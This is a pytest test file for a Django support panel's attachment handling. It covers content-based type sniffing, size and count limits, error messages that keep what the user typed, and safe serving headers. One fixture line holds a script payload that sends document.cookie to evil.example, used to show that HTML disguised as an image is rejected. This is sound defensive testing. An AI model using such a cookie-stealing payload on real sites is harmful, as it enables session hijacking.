"""Files on tickets are images or PDFs by their content — not by their name or the type the browser claims —
within the size and count limits, refused with a clear error that keeps what was typed, stored outside every
served URL and handed out with their checked type only."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from support.attachments import GIF, JPEG, PDF, PNG, WEBP, sniffed
from support.models import Attachment, Ticket
from support.services import ticket_customer_reply
from tests.support.conftest import PDF as PDF_BYTES
from tests.support.conftest import PNG as PNG_BYTES

pytestmark = pytest.mark.django_db

HTML = b"<!doctype html><html><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.fixture
def signed_in(client, customer):
    client.force_login(customer)
    return client


def new_ticket(client, *files, body="Please look at the screenshot"):
    return client.post(
        "/support/new/", {"kind": "other", "subject": "With files", "body": body, "files": list(files)}
    )


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (PNG_BYTES, PNG),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF", JPEG),
        (b"GIF89a\x01\x00", GIF),
        (b"GIF87a\x01\x00", GIF),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", WEBP),
        (PDF_BYTES, PDF),
        (HTML, None),
        (b"RIFF\x24\x00\x00\x00WAVEfmt ", None),
        (b"PK\x03\x04", None),
        (b"", None),
    ],
)
def test_the_type_is_read_from_the_first_bytes(head, expected):
    assert sniffed(head) == expected


def test_a_png_named_pdf_is_kept_as_the_png_it_is(signed_in, attachments_dir):
    response = new_ticket(signed_in, SimpleUploadedFile("invoice.pdf", PNG_BYTES, "application/pdf"))

    assert response.status_code == 302
    (attachment,) = Attachment.objects.all()
    assert (attachment.name, attachment.content_type, attachment.size) == (
        "invoice.png",
        "image/png",
        len(PNG_BYTES),
    )
    # Stored under the panel's own name, in the attachments directory (served by no URL).
    stored = attachments_dir / attachment.file.name
    assert stored.read_bytes() == PNG_BYTES and "invoice" not in attachment.file.name

    served = signed_in.get(f"/support/files/{attachment.pk}/")
    assert served.status_code == 200
    assert served["Content-Type"] == "image/png" and served["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in served["Content-Security-Policy"]
    assert b"".join(served.streaming_content) == PNG_BYTES


def test_a_pdf_is_downloaded_never_shown(signed_in):
    new_ticket(signed_in, SimpleUploadedFile("receipt.pdf", PDF_BYTES, "application/pdf"))
    served = signed_in.get(f"/support/files/{Attachment.objects.get().pk}/")
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"] == 'attachment; filename="receipt.pdf"'
    assert served["X-Content-Type-Options"] == "nosniff"


def test_html_named_png_is_refused_and_nothing_typed_is_lost(signed_in):
    response = new_ticket(
        signed_in, SimpleUploadedFile("screenshot.png", HTML, "image/png"), body="My detailed story"
    )

    assert response.status_code == 200
    assert response.context["form"].errors["files"] == [
        "screenshot.png is not an image (PNG, JPEG, GIF, WebP) or a PDF."
    ]
    content = response.content.decode()
    assert "My detailed story" in content and "With files" in content
    assert "Choose the files to attach again" in content
    assert not Ticket.objects.exists() and not Attachment.objects.exists()


def test_too_big_and_too_many_are_refused(signed_in, settings):
    settings.SUPPORT_ATTACHMENT_MAX_BYTES = 1024
    big = SimpleUploadedFile("huge.png", PNG_BYTES + b"\x00" * 1024, "image/png")
    refused = new_ticket(signed_in, big)
    assert refused.context["form"].errors["files"] == ["huge.png is 1.1\xa0KB: files may be up to 1.0\xa0KB."]

    settings.SUPPORT_ATTACHMENTS_PER_MESSAGE = 2
    files = [SimpleUploadedFile(f"{n}.png", PNG_BYTES, "image/png") for n in range(3)]
    refused = new_ticket(signed_in, *files)
    assert refused.context["form"].errors["files"] == ["Attach at most 2 files to a message."]
    assert not Ticket.objects.exists()

    files = [SimpleUploadedFile(f"{n}.png", PNG_BYTES, "image/png") for n in range(2)]
    assert new_ticket(signed_in, *files).status_code == 302
    assert Attachment.objects.count() == 2


def test_the_service_checks_the_files_too(customer, open_ticket):
    """Whatever calls it (a form that forgot to check, a future API): the same rule, nothing written."""
    ticket = open_ticket()
    with pytest.raises(ValidationError, match="not an image"):
        ticket_customer_reply(
            ticket=ticket, user=customer, body="x", files=[SimpleUploadedFile("a.gif", HTML, "image/gif")]
        )
    assert ticket.messages.count() == 1 and not Attachment.objects.exists()


def test_a_reply_with_a_file(signed_in, open_ticket):
    ticket = open_ticket()
    signed_in.post(
        f"/support/{ticket.pk}/",
        {
            "body": "Here is the proof",
            "files": [SimpleUploadedFile("proof.jpg", b"\xff\xd8\xff\xe0rest", "image/jpeg")],
        },
    )
    (attachment,) = Attachment.objects.all()
    assert attachment.name == "proof.jpg" and attachment.message.body == "Here is the proof"
    page = signed_in.get(f"/support/{ticket.pk}/").content.decode()
    assert f'href="/support/files/{attachment.pk}/"' in page
